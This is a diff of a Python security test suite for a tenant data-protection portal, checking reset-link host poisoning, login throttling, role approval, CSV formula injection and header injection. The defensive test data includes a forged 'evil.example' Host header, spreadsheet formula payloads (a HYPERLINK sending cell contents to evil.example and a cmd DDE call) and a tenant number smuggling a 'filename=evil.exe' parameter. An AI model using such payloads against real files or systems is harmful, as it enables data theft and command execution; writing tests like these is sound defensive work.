@@ -7,28 +7,37 @@ import re
 from pathlib import Path
 
 from portal import mail
+from tests import builders
+from tests.builders import PASSWORD
 from tests.conftest import build_app
-from tests.security.helpers import CAMILLE, KARIM
 
-DEMO_PASSWORD = "demo-portal-2026"
+
+def _people(app):
+    """Who is who (tests/builders.estate), committed into an app the test built for itself."""
+    with builders.committed(app) as s:
+        return builders.estate(s)
 
 
 # --- 1. Reset-link poisoning -----------------------------------------------------------
 
 def test_a_forged_host_header_never_reaches_the_reset_link(tmp_path):
-    app = build_app(tmp_path, "hostpoison", PUBLIC_URL="https://portail.example.org")
+    app = build_app(tmp_path, "hostpoison", demo=False, PUBLIC_URL="https://portail.example.org")
+    people = _people(app)
     client = app.test_client()
-    client.post("/password/forgot", data={"email": CAMILLE}, headers={"Host": "evil.example"})
-    message = mail.read_outbox(Path(app.config["MAIL_OUTBOX"]))[-1].get_content()
+    client.post("/password/forgot", data={"email": people.tenant_account.email}, headers={"Host": "evil.example"})
+    sent = mail.read_outbox(Path(app.config["MAIL_OUTBOX"]))[-1]
+    assert sent["To"] == people.tenant_account.email
+    message = sent.get_content()
     assert "evil.example" not in message
     assert re.search(r"https://portail\.example\.org/password/reset/\S+", message)
 
 
 def test_the_admins_choose_your_password_link_ignores_the_host_header(tmp_path):
-    app = build_app(tmp_path, "hostpoison2", PUBLIC_URL="https://portail.example.org")
+    app = build_app(tmp_path, "hostpoison2", demo=False, PUBLIC_URL="https://portail.example.org")
+    people = _people(app)
     client = app.test_client()
     evil = {"Host": "evil.example"}
-    client.post("/login", data={"email": "admin@example.org", "password": DEMO_PASSWORD}, headers=evil)
+    client.post("/login", data={"email": people.admin.email, "password": PASSWORD}, headers=evil)
     client.post("/admin/staff/new", headers=evil,
                 data={"email": "new.person@example.org", "role": "admin", "display_name": "New Person"})
     message = mail.read_outbox(Path(app.config["MAIL_OUTBOX"]))[-1]
@@ -47,23 +56,25 @@ def test_trusted_hosts_refuse_another_host(tmp_path):
 # --- 6. Throttle behind a proxy, no lock a stranger can set off --------------------------
 
 def test_behind_a_proxy_each_tenant_has_its_own_address(tmp_path):
-    app = build_app(tmp_path, "proxied", RATELIMIT_ENABLED=True, TRUSTED_PROXIES=1)
+    app = build_app(tmp_path, "proxied", demo=False, RATELIMIT_ENABLED=True, TRUSTED_PROXIES=1)
+    people = _people(app)
     client = app.test_client()
     nginx = {"REMOTE_ADDR": "127.0.0.1"}
     for i in range(40):  # one attacker, behind the same nginx as everyone
         client.post("/login", data={"email": f"x{i}@example.org", "password": "wrong-guess-Xy!1"},
                     environ_base=nginx, headers={"X-Forwarded-For": "203.0.113.9"})
-    other = app.test_client().post("/login", data={"email": CAMILLE, "password": DEMO_PASSWORD},
+    other = app.test_client().post("/login", data={"email": people.tenant_account.email, "password": PASSWORD},
                                    environ_base=nginx, headers={"X-Forwarded-For": "198.51.100.7"})
     assert other.status_code == 302
 
 
 def test_a_stranger_cannot_lock_someone_elses_account(throttled):
+    owner_email = _people(throttled).tenant_account.email
     stranger = throttled.test_client()
     for i in range(25):
-        stranger.post("/login", data={"email": KARIM, "password": f"guess-{i}-Xy!"},
+        stranger.post("/login", data={"email": owner_email, "password": f"guess-{i}-Xy!"},
                       environ_base={"REMOTE_ADDR": "203.0.113.50"})
-    owner = throttled.test_client().post("/login", data={"email": KARIM, "password": DEMO_PASSWORD},
+    owner = throttled.test_client().post("/login", data={"email": owner_email, "password": PASSWORD},
                                          environ_base={"REMOTE_ADDR": "198.51.100.20"})
     assert owner.status_code == 302
 
@@ -80,16 +91,15 @@ def test_the_delay_grows_but_never_reaches_an_hour(throttled):
 
 # --- 3. Roles that read tenant data need the DPO's approval --------------------------------
 
-def _login(client, email: str, password: str = DEMO_PASSWORD):
+def _login(client, email: str, password: str = PASSWORD):
     return client.post("/login", data={"email": email, "password": password})
 
 
 def test_the_admin_cannot_give_himself_a_dpo_account(tmp_path):
-    from tests.access.helpers import tenant_id
-
-    app = build_app(tmp_path, "fourEyes")
+    app = build_app(tmp_path, "fourEyes", demo=False)
+    people = _people(app)
     admin = app.test_client()
-    _login(admin, "admin@example.org")
+    _login(admin, people.admin.email)
     admin.post("/admin/staff/new", data={"email": "it.guy@example.net", "role": "dpo", "display_name": "It Guy"})
     message = mail.read_outbox(Path(app.config["MAIL_OUTBOX"]))[-1].get_content()
     token = re.search(r"/password/reset/(\S+)", message).group(1)
@@ -97,13 +107,13 @@ def test_the_admin_cannot_give_himself_a_dpo_account(tmp_path):
     app.test_client().post(f"/password/reset/{token}", data={"password": strong, "password_confirm": strong})
     rogue = app.test_client()
     assert _login(rogue, "it.guy@example.net", strong).status_code == 302
-    camille = tenant_id(app, "LOC-000101")
-    assert rogue.get(f"/staff/tenants/{camille}").status_code == 403
+    someone = people.tenant.id
+    assert rogue.get(f"/staff/tenants/{someone}").status_code == 403
     assert rogue.get("/staff/audit").status_code == 403
     assert rogue.get("/me/export.json").status_code in (302, 403, 404)
     # The DPO sees who waits, and approves: only then the role works.
     dpo = app.test_client()
-    _login(dpo, "dpo@example.org")
+    _login(dpo, people.dpo.email)
     page = dpo.get("/admin/approvals?lang=en").get_data(as_text=True)
     assert "it.guy@example.net" in page and "Data-protection officer" in page
     from portal.db import Database
@@ -116,7 +126,7 @@ def test_the_admin_cannot_give_himself_a_dpo_account(tmp_path):
         s.close()
     assert rogue.post("/admin/approvals", data={"user_id": str(rogue_id)}).status_code == 403  # not himself
     assert dpo.post("/admin/approvals", data={"user_id": str(rogue_id)}).status_code == 302
-    assert rogue.get(f"/staff/tenants/{camille}").status_code == 200
+    assert rogue.get(f"/staff/tenants/{someone}").status_code == 200
 
 
 # --- 5. Spreadsheet formula injection ---------------------------------------------------
@@ -125,18 +135,13 @@ FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"Cliquez")', "+33 6 12 34 56 
             "@SUM(1+1)", "\t=cmd|' /C calc'!A0", "'=already quoted", "-12.50")
 
 
-def _add_notes(app, number: str, bodies) -> None:
-    from sqlalchemy import select
-
-    from portal.db import Database
-    from portal.models import Note, Tenant
-
-    with app.app_context():
-        s = Database.state(app).factory()
-        tenant = s.scalar(select(Tenant).where(Tenant.tenant_number == number))
-        s.add_all([Note(tenant_id=tenant.id, body=b, author_name="Test") for b in bodies])
-        s.commit()
-        s.close()
+def _tenant_with_notes(app, bodies) -> str:
+    """A tenant with these notes, in an app the test built; the tenant's login e-mail."""
+    with builders.committed(app) as s:
+        someone, account = builders.tenant_with_account(s)
+        for body in bodies:
+            builders.note(s, someone, body)
+        return account.email
 
 
 def _cells(text: str) -> list[str]:
@@ -150,10 +155,10 @@ def test_no_cell_of_the_tenant_csv_export_is_a_live_formula(tmp_path):
     import io
     import zipfile
 
-    app = build_app(tmp_path, "formulas")
-    _add_notes(app, "LOC-000101", FORMULAS)
+    app = build_app(tmp_path, "formulas", demo=False)
+    email = _tenant_with_notes(app, FORMULAS)
     client = app.test_client()
-    _login(client, CAMILLE)
+    _login(client, email)
     archive = zipfile.ZipFile(io.BytesIO(client.get("/me/export.zip").data))
     cells = [c for name in archive.namelist() if name.endswith(".csv")
              for c in _cells(archive.read(name).decode("utf-8"))]
@@ -168,8 +173,8 @@ def test_export_csv_neutralises_formulas_and_import_reads_them_back_exactly(tmp_
     from portal.db import Database
     from portal.models import Note
 
-    source = build_app(tmp_path, "formula_src")
-    _add_notes(source, "LOC-000101", FORMULAS)
+    source = build_app(tmp_path, "formula_src", demo=False)
+    _tenant_with_notes(source, FORMULAS)
     out = tmp_path / "export"
     assert source.test_cli_runner().invoke(args=["export-csv", str(out)]).exit_code == 0
     text = (out / "notes.csv").read_text(encoding="utf-8-sig")
@@ -192,14 +197,13 @@ def test_export_csv_neutralises_formulas_and_import_reads_them_back_exactly(tmp_
 ODD = ("²", "٣", "99999999999999999999", "-1", "1e3", " 1", "0x10", "１")
 
 
-def test_odd_page_numbers_and_ids_never_give_a_500(app):
-    from tests.access.helpers import tenant_id
-
+def test_odd_page_numbers_and_ids_never_give_a_500(app, session):
+    people = builders.estate(session)
     tenant, staff, dpo, admin = app.test_client(), app.test_client(), app.test_client(), app.test_client()
-    _login(tenant, CAMILLE)
-    _login(staff, "gestion@example.org")
-    _login(dpo, "dpo@example.org")
-    _login(admin, "admin@example.org")
+    _login(tenant, people.tenant_account.email)
+    _login(staff, people.manager.email)
+    _login(dpo, people.dpo.email)
+    _login(admin, people.admin.email)
     for odd in ODD:
         for client, url in ((tenant, "/me"), (tenant, "/me/access-log"), (staff, "/staff/requests"),
                             (staff, "/staff/tenants"), (dpo, "/staff/audit")):
@@ -209,41 +213,46 @@ def test_odd_page_numbers_and_ids_never_give_a_500(app):
     for huge in ("99999999999999999999", "2147483648"):
         assert staff.get(f"/staff/tenants/{huge}").status_code == 404
         assert admin.get(f"/admin/staff/{huge}").status_code == 404
-    assert staff.get(f"/staff/tenants/{tenant_id(app, 'LOC-000101')}").status_code == 200
+    assert staff.get(f"/staff/tenants/{people.tenant.id}").status_code == 200
 
 
-def test_dates_at_the_ends_of_the_calendar_are_explained_not_crashed(app):
+def test_dates_at_the_ends_of_the_calendar_are_explained_not_crashed(app, session):
     dpo = app.test_client()
-    _login(dpo, "dpo@example.org")
+    _login(dpo, builders.account(session, "dpo").email)
     response = dpo.get("/staff/audit?lang=en&from=0001-01-01&to=9999-12-31")
     assert response.status_code == 200
     assert "The log holds dates from 1900 to 2199." in response.get_data(as_text=True)
 
 
-def test_odd_ids_in_forms_are_refused_cleanly(app):
-    from tests.security.helpers import ids
-
-    refs = ids(app)["karim_refs"]
+def test_odd_ids_in_forms_are_refused_cleanly(app, session):
+    people = builders.estate(session)
+    waiting = builders.request(session, people.neighbour, kind="erasure", status="waiting_info",
+                               asked="Quelles notes ?")
+    reviewed = builders.note(session, people.neighbour, "Rappel envoyé.", review_status="kept")
     dpo = app.test_client()
-    _login(dpo, "dpo@example.org")
+    _login(dpo, people.dpo.email)
     for odd in ODD:
         for data in ({"action": "assign", "assignee": odd}, {"action": "grant", "targets": f"notes:{odd}"},
                      {"action": "tell_recipient", "notice_id": odd}):
-            response = dpo.post(f"/staff/requests/{refs[0]}", data=data)
+            response = dpo.post(f"/staff/requests/{waiting.ref}", data=data)
             assert response.status_code < 500, (data, response.status_code)
-        # " 1" is read as note 1 (already reviewed in the demo: a clean redirect); the rest 400/404.
+        # " 1" may be read as note 1 (a clean redirect if it exists); the rest 400/404.
         assert dpo.post("/staff/notes/review", data={"action": "keep", "note_id": odd}).status_code in (
             302, 400, 404, 422)
+    # An id that is a real, already reviewed note, written oddly: a clean answer too.
+    assert dpo.post("/staff/notes/review", data={"action": "keep", "note_id": f" {reviewed.id}"}).status_code in (
+        302, 400, 404, 422)
     tenant = app.test_client()
-    _login(tenant, CAMILLE)
+    _login(tenant, people.tenant_account.email)
     assert tenant.get("/me/requests/new?kind=rectification&field=contact.email&record=²").status_code == 200
 
 
-def test_a_file_sent_in_a_text_field_is_refused_with_a_message(app):
+def test_a_file_sent_in_a_text_field_is_refused_with_a_message(app, session):
     import io
 
+    _someone, account = builders.tenant_with_account(session)
     tenant = app.test_client()
-    _login(tenant, CAMILLE)
+    _login(tenant, account.email)
     response = tenant.post("/me/requests/new?lang=en", content_type="multipart/form-data",
                            data={"kind": "access", "details": (io.BytesIO(b"MZ\x90\x00"), "evil.exe")})
     assert response.status_code == 400
@@ -255,37 +264,33 @@ def test_a_file_sent_in_a_text_field_is_refused_with_a_message(app):
 def test_the_caretaker_does_not_see_an_incident_of_another_building_on_a_file(app, session):
     from datetime import date
 
-    from sqlalchemy import select
+    from portal.models import Incident
 
-    from portal.models import Building, Incident, Tenant
-
-    camille = session.scalar(select(Tenant).where(Tenant.tenant_number == "LOC-000101"))
-    tilleuls = session.scalar(select(Building.id).where(Building.ref == "BAT-TILLEULS"))
-    session.add(Incident(building_id=tilleuls, tenant_id=camille.id, kind="technical", reported_on=date(2026, 3, 2),
-                         title="Fuite chez le voisin du 5e (Tilleuls)", description="Témoin"))
+    people = builders.estate(session)
+    # An incident of the other building (same portfolio), linked to the tenant's file.
+    session.add(Incident(building_id=people.other_building.id, tenant_id=people.tenant.id, kind="technical",
+                         reported_on=date(2026, 3, 2), title="Fuite chez le voisin du 5e", description="Témoin"))
+    session.add(Incident(building_id=people.building.id, tenant_id=people.tenant.id, kind="technical",
+                         reported_on=date(2026, 3, 3), title="Porte du hall bloquée", description="Témoin"))
     session.commit()
     caretaker, manager = app.test_client(), app.test_client()
-    _login(caretaker, "gardien.lilas@example.org")
-    _login(manager, "gestion@example.org")
-    url = f"/staff/tenants/{camille.id}?open=incidents"
+    _login(caretaker, people.caretaker.email)
+    _login(manager, people.manager.email)
+    url = f"/staff/tenants/{people.tenant.id}?open=incidents"
     assert "Fuite chez le voisin" in manager.get(url).get_data(as_text=True)  # the manager's portfolio has both
     page = caretaker.get(url)
     assert page.status_code == 200 and "Fuite chez le voisin" not in page.get_data(as_text=True)
+    assert "Porte du hall bloquée" in page.get_data(as_text=True)  # the caretaker's own building's
 
 
 # --- 13. Content-Disposition cannot be steered by a tenant number ----------------------------
 
 def test_a_tenant_number_cannot_add_a_header_parameter(app, session):
-    from sqlalchemy import select
     from werkzeug.http import parse_options_header
 
-    from portal.models import Tenant
-
-    camille = session.scalar(select(Tenant).where(Tenant.tenant_number == "LOC-000101"))
-    camille.tenant_number = 'LOC-9"; filename=evil.exe'
-    session.commit()
+    _someone, account = builders.tenant_with_account(session, tenant_number='LOC-9"; filename=evil.exe')
     client = app.test_client()
-    _login(client, CAMILLE)
+    _login(client, account.email)
     for url in ("/me/export.json", "/me/export.zip"):
         kind, options = parse_options_header(client.get(url).headers["Content-Disposition"])
         assert kind == "attachment"
@@ -296,12 +301,13 @@ def test_a_tenant_number_cannot_add_a_header_parameter(app, session):
 # --- 8. "Forgotten password": throttled, and the same time whether the account exists -------
 
 def test_forgotten_password_sends_at_most_three_mails_an_hour_to_one_address(tmp_path):
-    throttled = build_app(tmp_path, "forgot_throttle", RATELIMIT_ENABLED=True, FORGOT_MIN_SECONDS=0)
+    throttled = build_app(tmp_path, "forgot_throttle", demo=False, RATELIMIT_ENABLED=True, FORGOT_MIN_SECONDS=0)
+    email = _people(throttled).tenant_account.email
     client = throttled.test_client()
     for _ in range(20):
-        response = client.post("/password/forgot?lang=en", data={"email": KARIM})
+        response = client.post("/password/forgot?lang=en", data={"email": email})
         assert response.status_code in (200, 429)
-    sent = [m for m in mail.read_outbox(Path(throttled.config["MAIL_OUTBOX"])) if m["To"] == KARIM]
+    sent = [m for m in mail.read_outbox(Path(throttled.config["MAIL_OUTBOX"])) if m["To"] == email]
     assert len(sent) == 3
     assert client.post("/password/forgot", data={"email": "other@example.org"}).status_code == 429  # this client
 
@@ -310,7 +316,8 @@ def test_forgotten_password_answers_in_the_same_time_for_known_and_unknown_addre
     import statistics
     import time
 
-    app = build_app(tmp_path, "forgot_timing", FORGOT_MIN_SECONDS=0.15)
+    app = build_app(tmp_path, "forgot_timing", demo=False, FORGOT_MIN_SECONDS=0.15)
+    email = _people(app).tenant_account.email
     client = app.test_client()
 
     def median(email: str) -> float:
@@ -321,7 +328,7 @@ def test_forgotten_password_answers_in_the_same_time_for_known_and_unknown_addre
             times.append(time.perf_counter() - start)
         return statistics.median(times)
 
-    known, unknown = median(CAMILLE), median("nobody-at-all@example.org")
+    known, unknown = median(email), median("nobody-at-all@example.org")
     assert abs(known - unknown) < 0.1 * unknown, (known, unknown)
 
 
@@ -344,14 +351,15 @@ def test_re_enrolling_two_factor_needs_the_current_code(tmp_path):
     from portal.db import Database
     from portal.models import User
 
-    app = build_app(tmp_path, "reenrol", REQUIRE_STAFF_2FA=True, DEMO_MODE=False)
+    app = build_app(tmp_path, "reenrol", demo=False, REQUIRE_STAFF_2FA=True, DEMO_MODE=False)
+    dpo_email = _people(app).dpo.email
     owner = app.test_client()
-    _login(owner, "dpo@example.org")
+    _login(owner, dpo_email)
     secret, recovery = _enrol(owner)
     assert len(recovery) == 10
     with app.app_context():
         s = Database.state(app).factory()
-        stored = s.scalar(select(User.totp_secret).where(User.email == "dpo@example.org"))
+        stored = s.scalar(select(User.totp_secret).where(User.email == dpo_email))
         s.close()
     assert secret not in stored  # encrypted at rest, with a key outside the database
     assert twofactor.unseal(app.config["TOTP_KEY"], stored) == secret
@@ -364,7 +372,7 @@ def test_re_enrolling_two_factor_needs_the_current_code(tmp_path):
     assert "Enter the code your current app shows now." in missing.get_data(as_text=True)
     with app.app_context():
         s = Database.state(app).factory()
-        assert s.scalar(select(User.totp_secret).where(User.email == "dpo@example.org")) == stored
+        assert s.scalar(select(User.totp_secret).where(User.email == dpo_email)) == stored
         s.close()
     ok = owner.post("/account/two-factor?lang=en", data={"code": pyotp.TOTP(theirs).now(), "current_code": recovery[0]})
     assert len(re.findall(r'<code class="ref">([0-9a-f]{6}-[0-9a-f]{6})</code>', ok.get_data(as_text=True))) == 10
@@ -372,12 +380,11 @@ def test_re_enrolling_two_factor_needs_the_current_code(tmp_path):
 
 # --- 14. Logout, cross-site reads, received dates, the database file ----------------------------
 
-def test_a_link_from_another_site_neither_logs_out_nor_reads_a_file(app):
-    from tests.access.helpers import tenant_id
-
+def test_a_link_from_another_site_neither_logs_out_nor_reads_a_file(app, session):
+    people = builders.estate(session)
     staff = app.test_client()
-    _login(staff, "gestion@example.org")
-    url = f"/staff/tenants/{tenant_id(app, 'LOC-000101')}"
+    _login(staff, people.manager.email)
+    url = f"/staff/tenants/{people.tenant.id}"
     forged = staff.get(url + "?lang=en", headers={"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors"})
     assert forged.status_code == 403 and "Open this page from the portal" in forged.get_data(as_text=True)
     assert staff.get(url, headers={"Sec-Fetch-Site": "same-origin"}).status_code == 200
@@ -387,11 +394,12 @@ def test_a_link_from_another_site_neither_logs_out_nor_reads_a_file(app):
     assert staff.get(url).status_code == 302
 
 
-def test_a_request_cannot_be_registered_as_received_in_1900(app):
+def test_a_request_cannot_be_registered_as_received_in_1900(app, session):
+    someone = builders.tenant(session)
     dpo = app.test_client()
-    _login(dpo, "dpo@example.org")
+    _login(dpo, builders.account(session, "dpo").email)
     response = dpo.post("/staff/requests/register?lang=en", data={
-        "tenant_number": "LOC-000101", "kind": "access", "channel": "post", "details": "Lettre reçue",
+        "tenant_number": someone.tenant_number, "kind": "access", "channel": "post", "details": "Lettre reçue",
         "received_on": "1900-01-01", "identity_verified": "y"})
     assert response.status_code in (200, 400, 422)
     assert "cannot be more than a year ago" in response.get_data(as_text=True)
@@ -408,13 +416,15 @@ def test_the_sqlite_database_file_is_readable_by_its_owner_only(tmp_path, monkey
 
 # --- 12. A staff preview of an access letter is a read of the whole file --------------------
 
-def test_previewing_an_access_letter_shows_as_a_read_of_the_file_in_the_tenants_language(app):
+def test_previewing_an_access_letter_shows_as_a_read_of_the_file_in_the_tenants_language(app, session):
+    someone, account = builders.tenant_with_account(session)
+    req = builders.request(session, someone, kind="access", status="in_progress")
     dpo = app.test_client()
-    _login(dpo, "dpo@example.org")
-    assert dpo.get("/staff/requests/DPR-DEMO-0007/letter-preview.pdf?kind=granted").status_code == 200
-    karim = app.test_client()
-    _login(karim, KARIM)
-    page = karim.get("/me/access-log?lang=fr").get_data(as_text=True)
+    _login(dpo, builders.account(session, "dpo").email)
+    assert dpo.get(f"/staff/requests/{req.ref}/letter-preview.pdf?kind=granted").status_code == 200
+    tenant = app.test_client()
+    _login(tenant, account.email)
+    page = tenant.get("/me/access-log?lang=fr").get_data(as_text=True)
     newest = page.split("<li>")[1].split("</li>")[0]
     assert "Réponse à une demande RGPD" in newest and "Preview of a response letter" not in page
     assert "Correspondance" in newest and "Mes demandes" in newest  # the whole file, not "Mes demandes" alone
